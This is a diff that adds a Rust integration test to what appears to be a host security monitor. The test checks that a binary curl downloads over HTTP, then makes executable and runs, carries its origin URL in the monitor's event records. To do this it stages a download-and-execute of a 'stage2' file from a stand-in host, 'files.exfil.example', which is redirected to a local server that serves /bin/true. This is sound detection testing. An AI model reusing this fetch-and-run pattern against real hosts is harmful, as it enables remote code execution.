@@ -3287,6 +3287,77 @@ fn tls_hellos_and_http_requests_name_what_a_connection_asked_for() {
     kernel.check();
 }
 
+/// A binary curl fetched over HTTP (which sets no download origin of its own), made
+/// executable and run: its write and its exec carry the URL curl fetched as their download
+/// origin, in the JSON and in `process_events`.
+#[test]
+fn a_fetched_binary_carries_the_url_it_came_from() {
+    use std::io::{Read, Write};
+    use std::os::unix::fs::PermissionsExt;
+    let Some((_serial, kernel)) = begin("a_fetched_binary_carries_the_url_it_came_from") else {
+        return;
+    };
+    let mut agent = Agent::start("[files]\n");
+    let work = tempfile::tempdir().unwrap();
+    let target = std::fs::canonicalize(work.path()).unwrap().join("stage2");
+    // A server of our own, on loopback, that answers one request with /bin/true's bytes.
+    let body = std::fs::read("/bin/true").unwrap();
+    let server = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let port = server.local_addr().unwrap().port();
+    let serving = std::thread::spawn(move || {
+        let (mut conn, _) = server.accept().unwrap();
+        let mut request = [0u8; 4096];
+        let _ = conn.read(&mut request);
+        let head = format!(
+            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+            body.len()
+        );
+        conn.write_all(head.as_bytes()).unwrap();
+        conn.write_all(&body).unwrap();
+    });
+    let url = format!("http://files.exfil.example:{port}/stage2");
+    let fetched = Command::new("curl")
+        .args(["-sf", "--max-time", "10", "--resolve"])
+        .arg(format!("files.exfil.example:{port}:127.0.0.1"))
+        .arg("-o")
+        .arg(&target)
+        .arg(&url)
+        .status()
+        .expect("curl (scripts/deps installs it)");
+    assert!(fetched.success());
+    serving.join().unwrap();
+    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755)).unwrap();
+    assert!(Command::new(&target).status().unwrap().success());
+    let path = s(&target);
+    let events = agent.wait_for_matching(&["--path", &path], "the download and its run", |ev| {
+        has(ev, "close_write", |e| file_path(e) == path)
+            && has(ev, "exec", |e| e["process"]["executable"] == path.as_str())
+    });
+    let written = the(&events, "close_write", "the download", |e| {
+        file_path(e) == path
+    });
+    assert_eq!(written["process"]["name"], "curl", "{written}");
+    assert_eq!(
+        written["warden"]["file"]["content"]["origin_url"],
+        url.as_str(),
+        "{written}"
+    );
+    let run = the(&events, "exec", "its run", |e| {
+        e["process"]["executable"] == path.as_str()
+    });
+    assert_eq!(
+        run["warden"]["executable"]["origin_url"],
+        url.as_str(),
+        "{run}"
+    );
+    let rows = agent.query_rows(&format!(
+        "SELECT origin_url FROM process_events WHERE path = '{path}'"
+    ));
+    assert_eq!(rows, [url.as_str()]);
+    agent.stop();
+    kernel.check();
+}
+
 fn unconnected_datagrams_are_recorded(test: &str, network: &str, syscall: Option<&str>) {
     use std::net::UdpSocket;
     let Some((_serial, kernel)) = begin(test) else {
